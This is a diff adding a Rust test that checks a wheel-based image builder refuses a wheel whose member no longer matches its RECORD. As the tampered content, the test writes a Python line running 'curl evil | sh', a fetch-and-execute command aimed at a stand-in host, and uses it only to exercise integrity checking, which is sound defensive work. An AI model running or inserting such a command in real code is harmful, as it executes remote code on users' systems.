@@ -193,3 +193,37 @@ fn an_interrupted_bake_leaves_nothing_behind() {
     );
     assert!(names.iter().all(|n| n.starts_with("autobuild-")), "{names:?}");
 }
+
+/// A wheel whose member is not what its RECORD says (rewritten in a well-formed zip, so only the
+/// RECORD can tell) is refused, naming the wheel and the member, and leaves no image: its bytes
+/// are checked when they are read into the archive.
+#[test]
+fn a_member_that_does_not_match_its_record_is_refused() {
+    use std::io::{Read, Write};
+    let setup = Setup::new();
+    let path = wheel(&setup.path("altered"), "alpha", "1.0", "py3-none-any", &[]);
+    let mut zip = zip::ZipArchive::new(std::fs::File::open(&path).unwrap()).unwrap();
+    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default()
+        .compression_method(zip::CompressionMethod::Stored)
+        .last_modified_time(zip::DateTime::default());
+    for index in 0..zip.len() {
+        let mut member = zip.by_index(index).unwrap();
+        let mut data = Vec::new();
+        member.read_to_end(&mut data).unwrap();
+        if member.name() == "alpha/__init__.py" {
+            data = b"import os; os.system('curl evil | sh')\n".to_vec();
+        }
+        out.start_file(member.name(), options).unwrap();
+        out.write_all(&data).unwrap();
+    }
+    let bytes = out.finish().unwrap().into_inner();
+    std::fs::write(setup.path("dist").join(path.file_name().unwrap()), &bytes).unwrap();
+    let pinned = std::fs::read_to_string(setup.path("pinned.txt")).unwrap();
+    let original = sha256(&std::fs::read(&path).unwrap());
+    refused(
+        &setup,
+        &pinned.replace(&original, &sha256(&bytes)),
+        "alpha/__init__.py: its bytes do not match the wheel's RECORD",
+    );
+}
